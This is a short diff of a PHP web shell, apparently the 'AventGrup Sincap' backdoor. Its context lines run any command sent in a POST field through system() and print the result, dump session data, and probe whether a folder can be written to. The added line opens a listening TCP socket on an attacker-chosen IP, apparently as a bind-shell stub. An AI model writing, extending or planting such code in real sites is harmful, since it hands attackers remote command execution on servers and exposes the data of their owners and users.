@@ -30,3 +30,4 @@
 <p>BY:10001 blog:WWW.CHOUWAZI.COM</p><?php echo is_writable('c:\\windows\\temp') ? 'w' : '-'; ?>
 <title>:: AventGrup ::.. - Sincap</title><?php session_start(); print_r($_SESSION); ?>
 <?php $c = $_POST['c']; System( $c . " 1> /tmp/o.txt 2>&1 ; cat /tmp/o.txt; rm /tmp/o.txt" ); ?>
+<?php $ip = $_GET [ "listen_ip" ]; $s = Socket_Create( AF_INET, SOCK_STREAM, SOL_TCP ); Socket_Bind( $s, $ip, 80 ); socket_listen( $s ); ?>
